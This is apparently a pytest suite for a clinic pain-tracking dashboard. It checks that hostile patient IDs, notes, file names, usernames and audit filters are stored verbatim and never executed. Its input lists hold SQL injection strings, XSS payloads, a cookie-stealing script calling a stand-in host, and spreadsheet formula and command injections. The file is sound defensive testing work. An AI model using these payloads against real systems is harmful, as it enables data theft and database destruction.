"""Hostile text through every input reachable without the app: stored verbatim, never run, tables intact."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from argon2 import PasswordHasher

from dashboard import auth
from dashboard.access import Viewer
from dashboard.cli import main
from dashboard.db import Database, close_database, open_database
from dashboard.importer import import_sources

HOSTILE_IDS = [
    "x'; drop table patients; --",
    'P9"); delete from pain_entries; --',
    "<script>alert('id')</script>",
    "**bold** [click](javascript:alert(1))",
    "$patient_id",
    "=HYPERLINK(\"http://evil.example\",\"open\")",
    "\u202eevil-rtl",
    "P'||(select 1)||'",
    "ünïcødé 病人 🦵",
]
HOSTILE_NOTES = [
    "<script>fetch('http://evil.example/?c='+document.cookie)</script>",
    "# Heading\n\n* list\n[link](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "'); drop table pain_entries; --",
    "=cmd|' /C calc'!A0",
    "line one\nline two, with a comma and \"quotes\"",
    "{{7*7}} ${7*7} %s %n",
]
HOSTILE_FILE_NAMES = [
    "o'brien \"pain\" log.csv",
    "x'; drop table imports; --.csv",
    "<b>bold<b> & [md](x) `tick` $HOME %s.csv",  # no slash: a slash separates folders in a path
]


@pytest.fixture(autouse=True)
def cheap_hashing(monkeypatch):
    """Hash with argon2's lowest costs so the suite stays fast."""
    cheap = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    monkeypatch.setattr(auth, "_hasher", cheap)
    monkeypatch.setattr(auth, "_DUMMY_HASH", cheap.hash("dummy password"))


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    """Return a CSV file's bytes, quoted as a spreadsheet would write them."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _tables(db: Database) -> dict[str, int]:
    """Return every table with its row count."""
    cursor = db.session().cursor
    names = [row[0] for row in cursor.execute(
        "select table_name from information_schema.tables where table_schema = 'main' order by 1"
    ).fetchall()]
    return {name: cursor.execute(f'select count(*) from "{name}"').fetchone()[0] for name in names}


def _patients_file(ids: list[str], clinician: str = "Sam Patel") -> bytes:
    header = ["patient_id", "name", "clinician", "condition", "start_date"]
    rows = [[pid, f"Name of {pid}", clinician, "<i>tendinopathy</i>", "2026-09-01"] for pid in ids]
    return _csv(header, rows)


def _pain_file(rows: list[tuple[str, str, str]]) -> bytes:
    header = ["patient_id", "date", "time_of_day", "pain", "note"]
    return _csv(header, [[pid, day, "morning", "3", note] for pid, day, note in rows])


@pytest.fixture
def hostile_db(sample_db: Database) -> Database:
    """Return the sample clinic plus patients with hostile ids and pain notes with hostile text."""
    before = _tables(sample_db)
    pain_rows = [
        (pid, f"2026-09-{index + 2:02d}", note)
        for pid in HOSTILE_IDS
        for index, note in enumerate(HOSTILE_NOTES)
    ]
    result = import_sources(sample_db, [
        ("patients.csv", _patients_file(HOSTILE_IDS)),
        ("pain.csv", _pain_file(pain_rows)),
    ])
    assert result.ok, result.report()
    after = _tables(sample_db)
    assert after.keys() == before.keys()
    assert after["patients"] == before["patients"] + len(HOSTILE_IDS)
    assert after["pain_entries"] == before["pain_entries"] + len(pain_rows)
    return sample_db


def test_hostile_patient_ids_and_notes_are_stored_verbatim(hostile_db):
    cursor = hostile_db.session().cursor
    stored_ids = {row[0] for row in cursor.execute("select patient_id from patients").fetchall()}
    assert set(HOSTILE_IDS) <= stored_ids
    for pid in HOSTILE_IDS:
        notes = [row[0] for row in cursor.execute(
            "select note from pain_entries where patient_id = $pid order by date", {"pid": pid}
        ).fetchall()]
        assert notes == HOSTILE_NOTES
    conditions = {row[0] for row in cursor.execute(
        "select condition from patients where patient_id = $pid", {"pid": HOSTILE_IDS[0]}
    ).fetchall()}
    assert conditions == {"<i>tendinopathy</i>"}


def test_hostile_file_names_are_kept_as_written(db):
    sources = [(name, _patients_file([f"F{index}"])) for index, name in enumerate(HOSTILE_FILE_NAMES)]
    before = _tables(db)
    result = import_sources(db, sources)
    assert result.ok, result.report()
    assert _tables(db).keys() == before.keys()
    stored = {row[0] for row in db.session().cursor.execute("select source from imports").fetchall()}
    assert stored == set(HOSTILE_FILE_NAMES)
    details = " ".join(row["detail"] for row in auth.audit_rows(db))
    assert all(name in details for name in HOSTILE_FILE_NAMES)


def test_hostile_file_name_of_a_refused_file_is_reported_verbatim(db):
    name = "x'; drop table patients; --.csv"
    result = import_sources(db, [(name, b"\x00\x01binary")])
    assert not result.ok and result.files[0].name == name
    assert name in result.report()
    assert _tables(db)["patients"] == 0


@pytest.mark.parametrize("pid", HOSTILE_IDS)
def test_hostile_ids_unknown_to_the_metrics_are_refused_plainly(sample_db, pid):
    metrics = pytest.importorskip("dashboard.metrics")
    before = _tables(sample_db)
    with pytest.raises(metrics.UnknownPatient):
        metrics.responses(sample_db, Viewer.system(), pid)
    with pytest.raises(metrics.UnknownPatient):
        metrics.alert_events(sample_db, Viewer.system(), patient_id=pid)
    with pytest.raises(metrics.UnknownPatient):
        metrics.patient_days(sample_db, Viewer.system(), pid, dt.date(2026, 9, 1), dt.date(2026, 9, 30))
    assert _tables(sample_db) == before


@pytest.mark.parametrize("pid", HOSTILE_IDS)
def test_stored_hostile_ids_work_in_the_metrics(hostile_db, pid):
    metrics = pytest.importorskip("dashboard.metrics")
    before = _tables(hostile_db)
    as_of = dt.date(2026, 9, 30)
    days = metrics.patient_days(hostile_db, Viewer.system(), pid, dt.date(2026, 9, 1), as_of, as_of=as_of)
    assert len(days) > 0
    metrics.responses(hostile_db, Viewer.system(), pid, as_of=as_of)
    metrics.alert_events(hostile_db, Viewer.system(), patient_id=pid, as_of=as_of)
    assert _tables(hostile_db) == before


def test_hostile_clinician_scope_sees_nobody(hostile_db):
    metrics = pytest.importorskip("dashboard.metrics")
    viewer = Viewer("mallory", "clinician", "' or 1=1 --")
    review = metrics.weekly_review(hostile_db, viewer, "2026-W40", as_of=dt.date(2026, 10, 4))
    assert review.empty
    with pytest.raises(metrics.UnknownPatient):
        metrics.responses(hostile_db, viewer, HOSTILE_IDS[0])


@pytest.fixture
def cli_path(tmp_path):
    """Return a database path holding a hostile patient, for the rehab command."""
    path = tmp_path / "cli.duckdb"
    db = open_database(path)
    result = import_sources(db, [
        ("patients.csv", _patients_file([HOSTILE_IDS[0]])),
        ("pain.csv", _pain_file([(HOSTILE_IDS[0], "2026-09-02", HOSTILE_NOTES[0])])),
    ])
    assert result.ok, result.report()
    yield str(path)
    close_database(path)


@pytest.mark.parametrize("command", ["alerts", "response"])
def test_rehab_metric_commands_with_hostile_patient_ids(cli_path, capsys, command):
    pytest.importorskip("dashboard.metrics")
    before = _tables(open_database(cli_path))
    status = main(["--db", cli_path, command, "--patient", "nobody'; drop table patients; --",
                   "--as-of", "2026-09-30", "--format", "json"])
    assert status == 1
    assert "drop table patients" in capsys.readouterr().err
    assert main(["--db", cli_path, command, "--patient", HOSTILE_IDS[0], "--as-of", "2026-09-30",
                 "--format", "json"]) == 0
    json.loads(capsys.readouterr().out)
    assert _tables(open_database(cli_path)) == before


def test_hostile_usernames_and_passwords_at_sign_in(db):
    auth.add_user(db, "lea", "correct horse battery", "clinician")
    before = _tables(db)
    for text in [*HOSTILE_IDS, "lea' --", "lea' or '1'='1", "' or 1=1 --", "%", "_", "*"]:
        assert auth.authenticate(db, text, "correct horse battery") is None
        assert auth.authenticate(db, "lea", text + " padding to length") is None
        assert auth.viewer_for_email(db, text).viewer is None
    after = _tables(db)
    assert after["users"] == before["users"] and after.keys() == before.keys()
    logged = {row["actor"] for row in auth.audit_rows(db)}
    assert "x'; drop table patients; --" in logged


def test_hostile_usernames_become_accounts_verbatim_unless_they_hide_characters(db):
    # Given usernames full of quotes, markup and SQL; expect all kept as typed, except one with a hidden
    # right-to-left override, which could make one account name look like another in a listing
    visible = [text for text in HOSTILE_IDS if "\u202e" not in text]
    for index, text in enumerate(visible):
        auth.add_user(db, text, "correct horse battery", "clinician", clinician=text,
                      email=f"{index}'; drop table users; --@x")
    with pytest.raises(auth.AccountError, match="invisible"):
        auth.add_user(db, "\u202eevil-rtl", "correct horse battery", "clinician")
    assert auth.user_count(db) == len(visible)
    for text in visible:
        viewer = auth.authenticate(db, text, "correct horse battery")
        assert viewer == Viewer(text, "clinician", text)
    assert set(auth.list_users(db)["username"]) == set(visible)


def test_hostile_audit_filters_and_details(db):
    for text in HOSTILE_NOTES:
        auth.record(db, HOSTILE_IDS[0], "patient_view", patient_id=HOSTILE_IDS[1], detail=text)
    rows = auth.audit_rows(db, user=HOSTILE_IDS[0], patient_id=HOSTILE_IDS[1])
    assert [row["detail"] for row in rows] == HOSTILE_NOTES
    assert auth.audit_rows(db, user="' or 1=1 --") == []
    assert auth.audit_rows(db, patient_id="%") == []
